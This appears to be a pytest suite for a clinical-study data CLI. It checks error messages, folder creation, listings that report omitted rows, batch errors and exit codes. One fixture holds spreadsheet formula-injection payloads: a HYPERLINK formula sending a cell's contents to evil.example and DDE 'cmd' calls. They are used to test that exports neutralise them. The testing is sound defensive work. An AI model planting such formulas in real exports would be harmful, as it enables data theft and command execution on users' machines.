"""What the `cohort` commands print and write: verbatim messages, listings that say what they
left out, exports that create their folder and cannot run as spreadsheet formulas, batches
that must exist, validation of a study still filling up, exit codes in every --help."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from cohort.cli import app

PARTICIPANTS = ("participant_id,site_id,sex,birth_year,enrolled_on,diagnosis\n"
                "P1,S1,female,1980,2020-01-10,TRD\nP2,S1,male,1975,2020-02-01,MDD\n")
# values a spreadsheet would run, one per quarantined row (the score is not a number)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "[bold]x[/bold]"]


def cohort(*args: object):
    return CliRunner().invoke(app, [str(a) for a in args])


def _csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value


def _enrolled(tmp_path: Path) -> Path:
    """A new study with two participants (batch 1)."""
    db = tmp_path / "study.duckdb"
    (tmp_path / "p.csv").write_text(PARTICIPANTS)
    assert cohort("load", tmp_path / "p.csv", "--table", "participants", "--site", "S1",
                  "--db", db, "--create").exit_code == 0
    return db


@pytest.fixture
def study(tmp_path: Path) -> Path:
    """A study with participants (batch 1) and assessments (batch 2): 60 good rows and one
    quarantined row per hostile value."""
    db = _enrolled(tmp_path)
    rows = [f"P1,2021-{m:02d}-{d:02d},MADRS,{d}" for m in range(1, 7) for d in range(1, 11)]
    rows += [f"P2,2022-01-{i + 1:02d},MADRS,{_csv_field(v)}" for i, v in enumerate(HOSTILE)]
    (tmp_path / "a.csv").write_text("participant_id,assessed_on,instrument,score\n"
                                    + "".join(f"{r}\n" for r in rows))
    r = cohort("load", tmp_path / "a.csv", "--table", "assessments", "--db", db)
    assert r.exit_code == 1 and f"quarantined {len(HOSTILE)}" in r.stdout, r.output
    return db


# -- 1. messages verbatim ---------------------------------------------------------------

def test_error_messages_keep_their_bracketed_keys(tmp_path: Path, corpus: Path) -> None:
    r = cohort("load", corpus / "wrong_delimiter.csv", "--table", "assessments", "--mapping",
               corpus / "wrong_delimiter.toml", "--db", tmp_path / "s.duckdb", "--create")
    assert r.exit_code == 3
    assert "set delimiter under [read] in the mapping;" in r.stderr
    assert "list them under [tables.assessments.drop] columns" in r.stderr
    assert r.stderr.startswith("error: ") and len(r.stderr.strip().splitlines()) == 1


def test_data_values_are_listed_as_they_are(study: Path) -> None:
    r = cohort("quarantine", "--db", study, "--limit", "0")
    assert r.exit_code == 0, r.output
    assert "│ [bold]x[/bold] " in r.stdout
    assert "│ @SUM(1+1)*cmd|' /C calc'!A0 " in r.stdout


# -- 2 and 3. exports: folders, formats, formula injection ----------------------------------

def test_quarantine_csv_export_creates_its_folder_and_neutralises_formulas(study: Path,
                                                                           tmp_path: Path) -> None:
    out = tmp_path / "for_site" / "2026-12" / "fix_me.csv"
    r = cohort("quarantine", "--db", study, "--export", out)
    assert r.exit_code == 0 and f"{len(HOSTILE)} rows written to {out}" in r.stdout, r.output
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert [row["value"] for row in rows] == ["'" + v if v[0] in "=+-@" else v for v in HOSTILE]
    assert all(row[c][:1] not in ("=", "+", "-", "@", "\t", "\r") for row in rows for c in row)
    assert [row["batch_id"] for row in rows] == ["2"] * len(HOSTILE)   # numbers stay numbers


def test_quarantine_xlsx_export_writes_text_never_formulas(study: Path, tmp_path: Path) -> None:
    out = tmp_path / "new" / "fix_me.xlsx"
    assert cohort("quarantine", "--db", study, "--export", out).exit_code == 0
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    values = [row[header.index("value")] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in values] == ["'" + v if v[0] in "=+-@" else v for v in HOSTILE]
    assert {c.data_type for c in values} == {"s"}
    assert {row[header.index("source_line")].data_type for row in sheet.iter_rows(min_row=2)} == {"n"}


def test_only_text_cells_are_neutralised(tmp_path: Path) -> None:
    from cohort.export import write_table

    df = pl.DataFrame({"dose": [-0.3, 2.0], "note": ["\tcmd", "\rcmd"], "n": [-2, 3]})
    out = write_table(df, tmp_path / "x" / "t.csv", option="--out")
    assert out.read_bytes() == b"dose,note,n\n-0.3,'\tcmd,-2\n2.0,\"'\rcmd\",3\n"
    back = pl.read_parquet(write_table(df, tmp_path / "t.parquet", option="--out"))
    assert back.equals(df)                       # Parquet keeps the data as it is


def test_nested_columns_go_to_parquet_only(tmp_path: Path) -> None:
    from cohort.errors import UserError
    from cohort.export import write_table

    df = pl.DataFrame({"id": [1], "codes": [["=A1", "b"]]})
    with pytest.raises(UserError, match=r"--out .*t.csv: column\(s\) codes hold lists or "
                                        r"records, which .csv cannot; write a .parquet file"):
        write_table(df, tmp_path / "t.csv", option="--out")
    assert not (tmp_path / "t.csv").exists()
    assert pl.read_parquet(write_table(df, tmp_path / "t.parquet", option="--out")).equals(df)


def test_derive_and_validate_create_their_output_folders(study: Path, tmp_path: Path) -> None:
    tte = tmp_path / "derived" / "tte.csv"
    r = cohort("derive", "follow_up", "--db", study, "--out", tte)
    assert r.exit_code == 0 and tte.read_text().startswith("participant_id,"), r.output
    r = cohort("validate", "--db", study, "--out", tmp_path / "reports" / "v")
    assert r.exit_code in (0, 1), r.output
    assert (tmp_path / "reports" / "v" / "validation_assessments.json").is_file()


@pytest.mark.parametrize("command", [("quarantine", "--export", "{}/q.csv"),
                                     ("derive", "follow_up", "--out", "{}/d.parquet"),
                                     ("validate", "--out", "{}/v")])
def test_a_file_in_the_way_of_the_output_folder_is_one_line(study: Path, tmp_path: Path,
                                                            command: tuple[str, ...]) -> None:
    blocker = tmp_path / "taken"
    blocker.write_text("not a folder")
    r = cohort(*[a.format(blocker) for a in command], "--db", study)
    assert r.exit_code == 3, r.output
    assert r.stderr.strip() == (f"error: {command[-2]} {blocker}/{Path(command[-1]).name}: "
                                f"{blocker} is a file, not a folder; move it away or give "
                                "another path")


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs Linux's /proc")
@pytest.mark.parametrize("name", ["q.csv", "q.xlsx", "q.parquet", "new/q.csv"])
def test_an_export_that_cannot_be_written_is_one_line(study: Path, name: str) -> None:
    out = Path("/proc") / name                     # no one can create files there, not even root
    r = cohort("quarantine", "--db", study, "--export", out)
    assert r.exit_code == 3, r.output
    [line] = r.stderr.strip().splitlines()
    assert line.startswith(f"error: --export {out}: cannot ")
    assert line.endswith("; give a path you can write to")


def test_an_unknown_export_format_names_the_supported_ones(study: Path, tmp_path: Path) -> None:
    for command in (("quarantine", "--export", tmp_path / "q.txt"),
                    ("derive", "follow_up", "--out", tmp_path / "d.json")):
        r = cohort(*command, "--db", study)
        assert r.exit_code == 3 and "use a file name ending in .csv, .xlsx, .parquet" in r.stderr
        assert "Traceback" not in r.output


# -- 4. batches that do not exist -------------------------------------------------------------

@pytest.mark.parametrize("command", [("quarantine", "--batch", "99"), ("rollback", "99"),
                                     ("validate", "--batch", "99")])
def test_a_batch_that_does_not_exist_is_an_error(study: Path, command: tuple[str, ...]) -> None:
    r = cohort(*command, "--db", study)
    assert r.exit_code == 3, r.output
    assert r.stderr.strip() == ("error: no batch 99: the study has batches 1 to 2; "
                                "`cohort uploads` lists them")
    assert "rows written" not in r.stdout


def test_a_correction_of_a_batch_that_does_not_exist_is_an_error(study: Path, tmp_path: Path) -> None:
    r = cohort("load", tmp_path / "a.csv", "--table", "assessments", "--replaces", "7",
               "--db", study)
    assert r.exit_code == 3 and "no batch 7: the study has batches 1 to 2" in r.stderr


# -- 5. listings say what they left out ------------------------------------------------

def test_listings_say_how_many_rows_they_did_not_show(study: Path) -> None:
    r = cohort("quarantine", "--db", study, "--limit", "2")
    assert r.exit_code == 0
    assert r.stdout.count("│ 2 ") == 2
    assert r.stdout.rstrip().endswith(f"… {len(HOSTILE) - 2} more rows not shown ({len(HOSTILE)} "
                                      "in all); use --limit N (0: all) or --export FILE")
    every = cohort("quarantine", "--db", study, "--limit", "0")
    assert every.stdout.count("│ 2 ") == len(HOSTILE) and "not shown" not in every.stdout
    up = cohort("uploads", "--db", study, "--limit", "1")
    assert "… 1 more row not shown (2 in all); use --limit N (0: all)" in up.stdout
    sessions = study.parent / "s.csv"
    sessions.write_text("participant_id,session_date,drug,route,dose_mg,weight_kg\n"
                        "P1,2020-12-01,esketamine,intranasal,56,70\n"
                        "P2,2020-12-02,esketamine,intranasal,84,80\n")
    assert cohort("load", sessions, "--table", "treatment_sessions", "--db", study).exit_code == 0
    d = cohort("derive", "follow_up", "--db", study, "--limit", "1")
    assert d.exit_code == 0 and "follow_up: 2 rows" in d.stdout
    assert d.stdout.count("│ P") == 1 and "… 1 more row not shown (2 in all)" in d.stdout


def test_the_default_listing_stops_at_50_and_says_so(tmp_path: Path) -> None:
    db = _enrolled(tmp_path)
    rows = [f"P1,2021-{m:02d}-{d:02d},MADRS,{d}" for m in range(1, 13) for d in range(1, 29)]
    rows += [f"P2,2020-{m:02d}-{d:02d},MADRS,x{d}" for m in range(3, 6) for d in range(1, 21)]
    (tmp_path / "a.csv").write_text("participant_id,assessed_on,instrument,score\n"
                                    + "".join(f"{r}\n" for r in rows))
    assert cohort("load", tmp_path / "a.csv", "--table", "assessments", "--db", db).exit_code == 1
    r = cohort("quarantine", "--db", db)
    assert r.stdout.count("│ x") == 50
    assert "… 10 more rows not shown (60 in all); use --limit N (0: all) or --export FILE" in r.stdout


# -- 6. validation of a study that is still filling up -------------------------------------

def test_validate_skips_tables_with_no_rows_yet(tmp_path: Path) -> None:
    db = _enrolled(tmp_path)
    r = cohort("validate", "--db", db)
    assert r.exit_code == 0, r.output
    for table in ("treatment_sessions", "assessments", "events", "exits"):
        assert f"{table}: no rows yet, skipped" in r.stdout
    assert "participants: all" in r.stdout and "fatal" not in r.stdout
    one = cohort("validate", "--db", db, "--table", "exits")
    assert one.exit_code == 0 and one.stdout.strip() == "exits: no rows yet, skipped"


def test_validating_a_rejected_batch_says_it_was_rejected(tmp_path: Path, corpus: Path) -> None:
    db = _enrolled(tmp_path)
    assert cohort("load", corpus / "mixed_dates.csv", "--table", "assessments",
                  "--db", db).exit_code == 2
    r = cohort("validate", "--batch", "2", "--db", db)
    assert r.exit_code == 3 and r.stderr.strip() == (
        "error: batch 2 was rejected when loaded: none of its rows were stored, so there is "
        "nothing to validate; `cohort quarantine --batch 2` lists why")


def test_validate_on_an_empty_study_says_so(tmp_path: Path) -> None:
    import cohort as ch

    db = tmp_path / "study.duckdb"
    ch.open(db, create=True).close()
    r = cohort("validate", "--db", db)
    assert r.exit_code == 0
    assert r.stdout.strip() == ("the study has no rows yet: nothing to validate; load files "
                                "with `cohort load`")


# -- 7. exit codes in every --help ----------------------------------------------------------

@pytest.mark.parametrize("command", [("demo",), ("load",), ("validate",), ("uploads",),
                                     ("quarantine",), ("rollback",), ("derive",),
                                     ("mapping", "suggest")])
def test_every_command_documents_its_exit_codes(command: tuple[str, ...]) -> None:
    r = cohort(*command, "--help")
    text = " ".join(r.stdout.split())
    assert r.exit_code == 0 and "Exit codes: 0 " in text and "3 a user error" in text, text


def test_demo_refuses_an_output_folder_behind_a_file(tmp_path: Path) -> None:
    (tmp_path / "taken").write_text("")
    r = cohort("demo", "--participants", "50", "--out", tmp_path / "taken" / "demo")
    assert r.exit_code == 3 and r.stderr.strip() == (
        f"error: --out {tmp_path}/taken/demo: {tmp_path}/taken is a file, not a folder; "
        "move it away or give another path")


def test_the_progress_bar_shows_file_names_as_they_are(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    site = tmp_path / "site"
    site.mkdir()
    (site / "p[bold]q.csv").write_text(PARTICIPANTS)
    env = {**os.environ, "TTY_COMPATIBLE": "1"}          # what rich takes for a terminal
    shown = subprocess.run([sys.executable, "-m", "cohort", "load", str(site), "--table",
                            "participants", "--site", "S1", "--db", str(tmp_path / "s.duckdb"),
                            "--create"],
                           capture_output=True, text=True, env=env, timeout=600)
    assert shown.returncode == 0, shown.stderr
    assert "p[bold]q.csv: 2 rows; validating" in shown.stdout


@pytest.mark.parametrize("argv", [("load", "x.csv", "--tabel", "visits"), ("uploads", "--nope"),
                                  ("rollback",)])
def test_a_mistyped_option_is_a_user_error_not_a_rejected_batch(argv: tuple[str, ...]) -> None:
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-m", "cohort", *argv], capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 3, done.stderr
    assert "Usage: python -m cohort" in done.stderr
